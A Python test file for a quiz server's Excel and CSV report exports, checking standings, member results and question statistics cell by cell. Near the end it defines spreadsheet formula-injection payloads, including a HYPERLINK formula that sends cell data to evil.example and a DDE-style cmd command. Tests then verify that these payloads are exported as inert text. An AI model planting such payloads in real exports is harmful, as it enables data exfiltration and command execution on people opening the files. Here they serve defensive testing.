"""The report workbook and CSVs, checked cell by cell against the hand-computed results."""

from __future__ import annotations

import csv
import io

import openpyxl
from conftest import login, make_user
from test_standings import seed_results

from quiz_server import reports
from quiz_server.extensions import db
from quiz_server.models import Unit


def workbook(app, branch_codes=None):
    with app.app_context():
        contest = seed_results(db.session)
        scope = None
        if branch_codes is not None:
            scope = {u.id for u in db.session.query(Unit).filter(Unit.code.in_(branch_codes))}
        data = reports.workbook_bytes(reports.build(db.session, contest, scope))
    return openpyxl.load_workbook(io.BytesIO(data))


def values(ws):
    return [list(row) for row in ws.iter_rows(values_only=True)]


def test_workbook_sheets_and_branch_standings_cell_by_cell(app):
    book = workbook(app)
    assert book.sheetnames == ["支部排名", "机关排名", "个人成绩", "题目统计", "说明"]
    rows = values(book["支部排名"])
    assert rows[0] == [
        "排名",
        "单位编码",
        "党支部",
        "上级单位",
        "注册党员数",
        "参与人数",
        "参与率",
        "总得分",
        "人均得分（按参与人数）",
        "人均得分（按注册人数）",
        "正确率",
        "答对平均用时（秒）",
    ]
    assert rows[1] == [1, "C", "直属支部", "市直机关工委", 5, 2, 0.4, 300, 150, 60, 0.6667, 1.5]
    assert rows[2] == [2, "B2", "第二支部", "教育局机关党委", 4, 1, 0.25, 200, 200, 50, 1, 2]
    assert rows[3] == [3, "B1", "第一支部", "教育局机关党委", 10, 2, 0.2, 300, 150, 30, 0.75, 1.7]
    ws = book["支部排名"]
    assert ws["G2"].number_format == "0.0%" and ws["J2"].number_format == "0.00"
    assert all(
        isinstance(ws.cell(2, col).value, int | float) for col in range(5, 13)
    )  # numbers, not text


def test_agency_sheet_rolls_up_with_the_same_metrics(app):
    rows = values(workbook(app)["机关排名"])
    assert rows[0][:5] == ["排名", "层级", "单位编码", "单位名称", "党支部数"]
    assert rows[1] == [
        1,
        "机关党委/党总支",
        "A",
        "教育局机关党委",
        2,
        14,
        3,
        0.2143,
        500,
        166.67,
        35.71,
        0.8333,
        1.8,
    ]
    assert rows[2] == [
        1,
        "系统党委",
        "S",
        "市直机关工委",
        3,
        19,
        5,
        0.2632,
        800,
        160,
        42.11,
        0.7778,
        1.7,
    ]


def test_member_results_sheet(app):
    rows = values(workbook(app)["个人成绩"])
    assert rows[0] == [
        "排名",
        "姓名",
        "党支部",
        "上级单位",
        "得分",
        "答对题数",
        "作答题数",
        "正确率",
        "答对总用时（秒）",
    ]
    assert rows[1] == [1, "甲一", "第一支部", "教育局机关党委", 200, 2, 2, 1, 2]
    assert rows[5] == [5, "甲二", "第一支部", "教育局机关党委", 100, 1, 2, 0.5, 3]


def test_question_statistics_most_missed_first(app):
    rows = values(workbook(app)["题目统计"])
    assert rows[0] == [
        "题序",
        "题目编号",
        "题型",
        "分类",
        "题干",
        "正确答案",
        "作答人数",
        "答对人数",
        "通过率",
        "区分度",
        "最多人选的错误答案",
        "选该错误答案人数",
        "平均用时（秒）",
    ]
    second, first = rows[1], rows[2]
    # Question 2: 4 answered, 2 right; top 27 % (1 member: 甲一) right, bottom (甲二) wrong → 1.0.
    # Wrong answers C and A were chosen once each: the tie goes to the first letter.
    assert second[0] == 2 and second[2] == "单选题" and second[5] == "B. 乙"
    assert second[6:] == [4, 2, 0.5, 1, "A. 甲", 1, 1.1]
    assert first[0] == 1 and first[6:] == [5, 5, 1, 0, None, 0, 1.8]


def test_secretary_scope_keeps_only_own_branch_rows(app):
    book = workbook(app, branch_codes={"B1"})
    assert [r[2] for r in values(book["支部排名"])[1:]] == ["第一支部"]
    assert values(book["支部排名"])[1][0] == 3  # the branch keeps its real rank
    assert [r[3] for r in values(book["机关排名"])[1:]] == ["教育局机关党委", "市直机关工委"]
    assert [r[1] for r in values(book["个人成绩"])[1:]] == ["甲一", "甲二"]
    # Question statistics describe only the branch's own members.
    assert [r[6] for r in values(book["题目统计"])[1:]] == [2, 2]


def test_csv_of_each_sheet_matches_the_workbook(app, client):
    with app.app_context():
        contest_id = seed_results(db.session).id
        user = make_user(db.session)
        db.session.commit()
        login(client, user.id)
    response = client.get(f"/admin/contests/{contest_id}/report/branches.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["排名", "单位编码", "党支部"]
    assert rows[1] == [
        "1",
        "C",
        "直属支部",
        "市直机关工委",
        "5",
        "2",
        "0.4",
        "300",
        "150.0",
        "60.0",
        "0.6667",
        "1.5",
    ]
    for sheet in ("agencies", "members", "questions"):
        assert client.get(f"/admin/contests/{contest_id}/report/{sheet}.csv").status_code == 200
    assert client.get(f"/admin/contests/{contest_id}/report/nope.csv").status_code == 404


INJECTIONS = {
    "member": "=1+2",
    "branch": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "code": "-2+3",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "stem": "+1+1 礼让行人",
}


def poisoned(app) -> int:
    """The seeded contest with member-, organizer- and bank-typed text that looks like formulas."""
    from quiz_server.models import Participant

    with app.app_context():
        contest = seed_results(db.session)
        db.session.query(Participant).filter_by(name="甲一").one().name = INJECTIONS["member"]
        branch = db.session.query(Unit).filter_by(code="B1").one()
        branch.name, branch.code = INJECTIONS["branch"], INJECTIONS["code"]
        contest.title = INJECTIONS["title"]
        contest.questions[0].question.stem = INJECTIONS["stem"]
        db.session.commit()
        return contest.id


def test_no_exported_cell_is_a_formula_and_text_is_kept(app, client):
    contest_id = poisoned(app)
    with app.app_context():
        login(client, make_user(db.session).id)
        db.session.commit()
    response = client.get(f"/admin/contests/{contest_id}/report.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert set(INJECTIONS.values()) <= texts  # every character kept, as text


def test_csv_fields_that_start_like_a_formula_get_an_apostrophe(app, client):
    contest_id = poisoned(app)
    with app.app_context():
        login(client, make_user(db.session).id)
        db.session.commit()
    fields = []
    for sheet in ("branches", "agencies", "members", "questions", "about"):
        response = client.get(f"/admin/contests/{contest_id}/report/{sheet}.csv")
        fields += [
            f for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for f in row
        ]
    assert [f for f in fields if f[:1] in ("=", "+", "-", "@")] == []
    assert {"'" + text for text in INJECTIONS.values()} <= set(fields)


def test_control_characters_in_a_name_do_not_break_the_workbook(app):
    sheet = reports.Sheet("t", "名单", [reports.Column("姓名")], [["张\x07三"], ["=1+2"]])
    book = openpyxl.load_workbook(io.BytesIO(reports.workbook_bytes([sheet])))
    assert [c.value for c in book["名单"]["A"]] == ["姓名", "张三", "=1+2"]
